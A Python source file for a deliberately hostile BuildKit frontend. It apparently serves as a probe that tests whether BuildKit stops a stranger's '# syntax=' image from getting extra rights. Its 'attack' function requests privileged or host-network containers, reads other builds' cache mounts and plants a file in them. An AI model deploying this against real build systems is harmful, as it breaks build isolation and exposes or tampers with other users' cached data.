"""A frontend of a stranger's choice: what `# syntax=IMAGE OPTIONS` in a Dockerfile has BuildKit run.

It asks BuildKit itself for steps, by gRPC over its standard input and output. OPTIONS are JSON:
    base: the image that its containers run.
    cache: the id of a cache mount, which it lists, reads and writes to.
    command: a container in the host's network runs it.
    privileged: "yes": that container asks for all rights instead of the host's network.
    unlabelled: "yes": the image has none of the requested labels.
    step: "host": the host's network for a step of the build as well.
The image that it makes has what it found in /found.

The messages are those of BuildKit's frontend/gateway/pb/gateway.proto and solver/pb/ops.proto.
"""

from __future__ import annotations

import hashlib
import json
import os
import platform
import sys
from collections.abc import Iterator

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import DataReceived, ResponseReceived, StreamEnded, StreamReset, TrailersReceived

PATH = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
NO_INPUT = NO_OUTPUT = -1
CACHE, HOST, INSECURE = 3, 1, 1
"""MountType.CACHE, NetMode.HOST and SecurityMode.INSECURE."""
LOOK = 'ls /kept >>/found; cat /kept/* >>/found; echo strange >/kept/stranger; echo "$FOUND" >>/found'


def varint(number: int) -> bytes:
    number &= (1 << 64) - 1
    parts = []
    while number > 0x7F:
        parts.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*parts, number])


def field(number: int, value: int | str | bytes) -> bytes:
    """A field of a protobuf message: a number as varint, all else by length."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    content = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(content)) + content


def fields(message: bytes) -> Iterator[tuple[int, int | bytes]]:
    """Those of a message, with varints and those that have a length."""
    position = 0

    def read() -> int:
        nonlocal position
        number = shift = 0
        while True:
            byte = message[position]
            position, number, shift = position + 1, number | (byte & 0x7F) << shift, shift + 7
            if byte < 0x80:
                return number

    while position < len(message):
        tag = read()
        number = read()
        if tag & 7 == 0:
            yield tag >> 3, number
        else:
            yield tag >> 3, message[position : position + number]
            position += number


def inside(message: bytes, number: int) -> bytes:
    """The content of a field; empty where there is none."""
    return next((value for at, value in fields(message) if at == number and isinstance(value, bytes)), b"")


class BridgeError(Exception):
    """BuildKit refused the request."""


class Bridge:
    """BuildKit's LLBBridge."""

    def __init__(self) -> None:
        self._http = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
        self._http.initiate_connection()
        self._send()

    def _send(self) -> None:
        data = self._http.data_to_send()
        while data:
            data = data[os.write(1, data) :]

    def call(self, method: str, message: bytes) -> bytes:
        """The one answer. Raises BridgeError."""
        return b"".join(self.answers(self.begin(method, message, last=True)))

    def begin(self, method: str, message: bytes, *, last: bool) -> int:
        """A stream, with the first message sent."""
        stream = self._http.get_next_available_stream_id()
        path = f"/moby.buildkit.v1.frontend.LLBBridge/{method}"
        headers = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost",
                   "content-type": "application/grpc", "te": "trailers"}  # fmt: skip
        self._http.send_headers(stream, list(headers.items()))
        self._http.send_data(stream, b"\0" + len(message).to_bytes(4, "big") + message, end_stream=last)
        self._send()
        return stream

    def end(self, stream: int) -> None:
        self._http.end_stream(stream)
        self._send()

    def answers(self, stream: int) -> Iterator[bytes]:
        waiting = b""
        while data := os.read(0, 1 << 16):
            for event in self._http.receive_data(data):
                if isinstance(event, DataReceived):
                    self._http.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                if getattr(event, "stream_id", None) != stream:
                    continue
                if isinstance(event, DataReceived):
                    waiting += event.data
                    while len(waiting) >= 5 and len(waiting) >= (end := 5 + int.from_bytes(waiting[1:5])):
                        yield waiting[5:end]
                        waiting = waiting[end:]
                if isinstance(event, ResponseReceived | TrailersReceived):
                    _check({str(name): str(value) for name, value in event.headers})
                if isinstance(event, StreamReset):
                    raise BridgeError(f"reset: {event.error_code}")
                if isinstance(event, StreamEnded):
                    self._send()
                    return
            self._send()
        raise BridgeError("BuildKit closed the connection")


def _check(headers: dict[str, str]) -> None:
    if headers.get("grpc-status", "0") != "0":
        raise BridgeError(f"{headers['grpc-status']}: {headers.get('grpc-message', '')}")


def definition(*operations: bytes) -> bytes:
    """A Definition; the last operation is what is wanted."""
    last = field(1, source_of(operations[-1]))
    return b"".join(field(1, operation) for operation in (*operations, last))


def source_of(operation: bytes) -> bytes:
    """An Input: the first output of the operation."""
    return field(1, f"sha256:{hashlib.sha256(operation).hexdigest()}")


def image(name: str) -> bytes:
    return field(3, field(1, f"docker-image://docker.io/{name}"))


def meta(command: str, *env: str) -> bytes:
    words = b"".join(field(1, word) for word in ("/bin/sh", "-c", command))
    return words + b"".join(field(2, pair) for pair in (PATH, *env)) + field(3, "/")


def root(result: str = "") -> bytes:
    """The Mount of / from the first input, or from a result."""
    return field(3, "/") + (field(23, result) if result else b"")


def cache(name: str) -> bytes:
    """The Mount of a cache at /kept."""
    where = field(1, NO_INPUT) + field(3, "/kept") + field(4, NO_OUTPUT)
    return where + field(6, CACHE) + field(20, field(1, name))


def step(base: bytes, command: str, *env: str, mounts: bytes = b"", network: int = 0) -> bytes:
    step = field(1, meta(command, *env)) + field(2, root()) + mounts
    return field(1, source_of(base)) + field(2, step + (field(3, network) if network else b""))


def solved(bridge: Bridge, *operations: bytes) -> str:
    """The id of the result."""
    return inside(bridge.call("Solve", field(1, definition(*operations))), 1).decode()


def contained(bridge: Bridge, result: str, command: str, network: int, security: int) -> str:
    """What a container says that isn't a step of the build, and how it ended if not well."""
    bridge.call("NewContainer", field(1, "mine") + field(2, root(result)) + field(3, network))
    init = field(1, "mine") + field(2, meta(command)) + field(3, b"\x01\x02") + field(5, security)
    stream = bridge.begin("ExecProcess", field(1, "process") + field(2, init), last=False)
    said = b""
    for message in bridge.answers(stream):
        said += inside(inside(message, 3), 3) + inside(inside(inside(message, 6), 2), 2)
        if any(number == 7 for number, _ in fields(message)):
            bridge.end(stream)
            break
    return said.decode()


def configuration(options: dict[str, str]) -> str:
    """The image's, with the labels that were asked for."""
    labels = {name.partition(":")[2]: value for name, value in options.items() if name.startswith("label:")}
    machine = {"x86_64": "amd64", "aarch64": "arm64"}.get(platform.machine(), platform.machine())
    config = {"Env": [PATH], "Labels": labels, "Cmd": ["/bin/sh"]}
    layers = {"type": "layers", "diff_ids": []}
    return json.dumps({"architecture": machine, "os": "linux", "config": config, "rootfs": layers})


def attack(bridge: Bridge, wanted: dict[str, str]) -> str:
    """Do what is wanted; the result's id."""
    base = image(wanted["base"])
    found = [f"UNIQUE={wanted['unique']}"]
    if "command" in wanted:
        try:
            rights = (0, INSECURE) if "privileged" in wanted else (HOST, 0)
            said = contained(bridge, solved(bridge, base), wanted["command"], *rights)
        except BridgeError as error:
            said = f"no container: {error}"
        found.append(f"FOUND={said}")
    mounts = field(2, cache(wanted["cache"])) if "cache" in wanted else b""
    network = HOST if "step" in wanted else 0
    return solved(bridge, base, step(base, LOOK, *found, mounts=mounts, network=network))


def main() -> None:
    pairs = (value for name, value in os.environ.items() if name.startswith("BUILDKIT_FRONTEND_OPT_"))
    options = dict(pair.split("=", 1) for pair in pairs)
    bridge = Bridge()
    try:
        wanted = json.loads(options["cmdline"].partition(" ")[2])
        result = field(1, attack(bridge, wanted))
        config = configuration({} if "unlabelled" in wanted else options)
        described = field(1, "containerimage.config") + field(2, config)
        answer = field(1, result + field(10, described))
    except Exception as error:
        print(repr(error), file=sys.stderr)
        answer = field(2, field(1, 2) + field(2, f"the frontend: {error}"))
    bridge.call("Return", answer)


if __name__ == "__main__":
    main()
